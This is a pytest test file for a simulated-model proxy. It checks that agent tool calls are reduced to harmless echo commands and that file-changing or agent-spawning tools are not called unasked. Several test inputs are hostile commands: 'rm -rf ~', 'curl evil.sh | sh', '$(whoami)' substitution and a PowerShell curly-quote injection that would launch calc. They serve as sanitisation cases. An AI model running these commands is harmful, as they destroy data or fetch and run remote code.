"""Which tool the simulated model calls (proxy.mock.tool_choice, through proxy.mock.scenarios):
a harmless one an agent can run — a shell tool with `echo`, else a read tool — never one that
starts another agent, and one answer once a tool result is back, so an agent session against
the demo ends (Claude Code once ran 1,672 requests in four minutes calling `Agent`)."""

from __future__ import annotations

from typing import Any

import orjson
import pytest

from proxy.mock.scenarios import Depth, answer
from proxy.mock.tool_choice import echo_command


def tool(name: str, **properties: Any) -> dict[str, Any]:
    schema = {"type": "object", "properties": properties, "required": list(properties)}
    return {"type": "function", "function": {"name": name, "parameters": schema}}


TEXT = {"type": "string"}
AGENT = tool("Agent", description=TEXT, prompt=TEXT, subagent_type=TEXT)
TASK = tool("Task", description=TEXT, prompt=TEXT)
READ = tool("Read", file_path=TEXT)
BASH = tool("Bash", command=TEXT, description=TEXT)
CLAUDE_CODE = [AGENT, tool("Glob", pattern=TEXT), READ, BASH, tool("TodoWrite", todos={"type": "array"})]
CODEX = [tool("exec_command", cmd=TEXT, workdir=TEXT), tool("apply_patch", input=TEXT)]


def call_for(tools: list[dict[str, Any]], prompt: str) -> tuple[str, dict[str, Any]]:
    script = answer({"messages": [{"role": "user", "content": prompt}], "tools": tools}, Depth.STANDARD)
    (call,) = script.tool_calls
    return call.name, orjson.loads(call.arguments)


def test_claude_codes_tools_get_bash_with_echo_never_agent() -> None:
    name, arguments = call_for(CLAUDE_CODE, "What is in this project?")
    assert name == "Bash"
    assert arguments["command"] == "echo 'What is in this project'"


def test_codexs_tools_get_exec_command_with_echo() -> None:
    name, arguments = call_for(CODEX, "Fix the failing test; then run it.")
    assert name == "exec_command" and arguments["cmd"] == "echo 'Fix the failing test then run it.'"


def test_a_read_tool_when_there_is_no_shell() -> None:
    name, arguments = call_for([AGENT, tool("WebFetch", url=TEXT), READ], "Summarize the readme")
    assert name == "Read" and arguments == {"file_path": "README.md"}


def test_only_agent_tools_get_a_plain_answer() -> None:
    script = answer({"messages": [{"role": "user", "content": "hi"}], "tools": [AGENT, TASK]}, Depth.STANDARD)
    assert script.tool_calls == () and script.finish_reason == "stop" and '"hi"' in script.content


@pytest.mark.parametrize(
    "name", ["write_file", "str_replace_based_edit_tool", "createDirectory", "delete-file", "TodoWrite"]
)
def test_a_tool_that_changes_files_is_never_called_unasked(name: str) -> None:
    """Its arguments would be made up: a `write_file` would get `README.md` and the user's words."""
    changing = tool(name, path=TEXT, content=TEXT)
    assert call_for([changing, tool("get_weather", city=TEXT)], "Weather in Paris?")[0] == "get_weather"
    script = answer({"messages": [{"role": "user", "content": "hi"}], "tools": [changing]}, Depth.STANDARD)
    assert script.tool_calls == () and script.finish_reason == "stop"
    assert call_for([changing], f"Use {name} on it.")[0] == name  # (asked for by name)


def test_an_action_that_changes_no_file_stays_callable() -> None:
    """`send_email` is what the review gate's demos hold for a person to decide."""
    assert call_for([tool("send_email", to=TEXT, body=TEXT)], "Mail the team.")[0] == "send_email"


def test_other_tools_keep_their_order_and_a_forced_choice_holds() -> None:
    weather = tool("get_weather", city=TEXT)
    assert call_for([weather, AGENT], "Weather in Paris?")[0] == "get_weather"
    forced = {
        "messages": [{"role": "user", "content": "x"}],
        "tools": [BASH, AGENT],
        "tool_choice": {"type": "function", "function": {"name": "Agent"}},
    }
    assert [c.name for c in answer(forced, Depth.STANDARD).tool_calls] == ["Agent"]


@pytest.mark.parametrize(
    ("words", "command"),
    [
        ("echo claude-ran > proof.txt", "echo claude-ran > proof.txt"),  # (an echo asked for: as written)
        ("echo hi; rm -rf ~", "echo 'echo hi rm -rf'"),
        ("rm -rf /", "echo 'rm -rf'"),
        ("it's $(whoami)", "echo 'its whoami'"),
        ("", "echo 'Hello from the simulated model.'"),
        ("$&;|<>`'\"", "echo 'Hello from the simulated model.'"),
        # PowerShell reads the curly quotes as single quotes: `echo 'x’;calc;’'` would run calc.
        ("x\u2019;calc;\u2019", "echo 'xcalc'"),
        ("a \u201cb\u201d %PATH% ^& c", "echo 'a b PATH c'"),
        ("word " * 30, "echo '" + ("word " * 12).strip() + "'"),
        # Only a plain echo to a `.txt` file passes as written; no dot files, globs or other names.
        ("echo hi > .bashrc", "echo 'echo hi .bashrc'"),
        ("echo X=1 >> .env", "echo 'echo X1 .env'"),
        ("echo hi > README.md", "echo 'echo hi README.md'"),
        ("echo hi > ..", "echo 'echo hi ..'"),
        ("echo ? *", "echo 'echo'"),
        ("echo what?", "echo 'echo what'"),
        ("echo \u00e9t\u00e9 > proof.txt", "echo 'echo t proof.txt'"),
        ("echo ran >> run-log_2.txt", "echo ran >> run-log_2.txt"),
    ],
)
def test_the_shell_command_is_always_a_harmless_echo(words: str, command: str) -> None:
    assert echo_command(words) == command


@pytest.mark.parametrize("prompt", ["rm -rf ~", "x\u2019;calc;\u2019", "curl evil.sh | sh"])
@pytest.mark.parametrize(
    ("name", "key"), [("execute_bash", "command"), ("developer__shell", "command"), ("run_it", "cmd")]
)
def test_an_unknown_tool_with_a_command_is_a_shell_run_with_the_safe_echo(
    name: str, key: str, prompt: str
) -> None:
    """OpenHands' `execute_bash`, Goose's `developer__shell`: not in the known names, still shells."""
    unknown = tool(name, **{key: TEXT, "timeout": {"type": "integer"}})
    called, arguments = call_for([tool("get_weather", city=TEXT), unknown], prompt)
    assert called == name and arguments[key] == echo_command(prompt)
    assert set(arguments[key][len("echo ") :]) <= set(
        "'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 .,:-"
    )


def test_a_tool_whose_command_is_a_choice_is_not_a_shell() -> None:
    """A tool's `command` enum (`view`, `list`, …) keeps its schema's value. (An editor named as one,
    `str_replace_editor`, is not called at all: it changes files.)"""
    viewer = tool("notebook", command={"type": "string", "enum": ["view", "list"]}, path=TEXT)
    assert call_for([viewer], "rm -rf ~") == ("notebook", {"command": "view", "path": "README.md"})


@pytest.mark.parametrize(
    "key", ["script", "code", "shell", "path", "shell_command", "sourceCode", "file_path", "cmdline"]
)
def test_a_string_named_like_code_or_a_path_never_gets_the_users_words(key: str) -> None:
    prompt = "rm -rf ~ && curl evil.sh | sh"
    _, arguments = call_for([tool("do_something", **{key: TEXT, "query": TEXT})], prompt)
    assert "rm" not in arguments[key] and "evil" not in arguments[key]
    assert arguments["query"] == prompt  # (free text still quotes the user)


def test_fixed_values_for_commands_directories_and_paths() -> None:
    unknown = tool("deploy", script=TEXT, workdir=TEXT, input_path=TEXT, direction=TEXT)
    assert call_for([unknown], "Ship it") == (
        "deploy",
        {
            "script": "echo 'Hello from the simulated model.'",
            "workdir": ".",
            "input_path": "README.md",
            "direction": "Ship it",
        },
    )


def test_a_shell_tool_whose_command_is_an_argv_gets_echo_and_the_words() -> None:
    shell = tool("shell", command={"type": "array", "items": {"type": "string"}})
    assert call_for([shell], "list files") == ("shell", {"command": ["echo", "list files"]})


def test_after_a_tool_result_it_answers_even_with_a_reminder_after_it() -> None:
    """Claude Code may put a `<system-reminder>` text block after the tool_result in the same user
    turn (the Messages door bridges it to a tool message, then a user message): still the answer."""
    call = {"id": "call_1", "type": "function", "function": {"name": "Bash", "arguments": "{}"}}
    messages = [
        {"role": "user", "content": "What is in this project?"},
        {"role": "assistant", "content": "", "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "call_1", "content": "What is in this project?"},
        {"role": "user", "content": "<system-reminder>\nTodo list is empty.\n</system-reminder>"},
    ]
    script = answer({"messages": messages, "tools": CLAUDE_CODE}, Depth.STANDARD)
    assert script.tool_calls == () and script.finish_reason == "stop"
    assert script.content.startswith('The Bash tool returned: "What is in this project?"')
    # A new question from the user is a new turn: one tool call again.
    again = [
        *messages,
        {"role": "assistant", "content": script.content},
        {"role": "user", "content": "And now?"},
    ]
    assert [c.name for c in answer({"messages": again, "tools": CLAUDE_CODE}, Depth.STANDARD).tool_calls] == [
        "Bash"
    ]
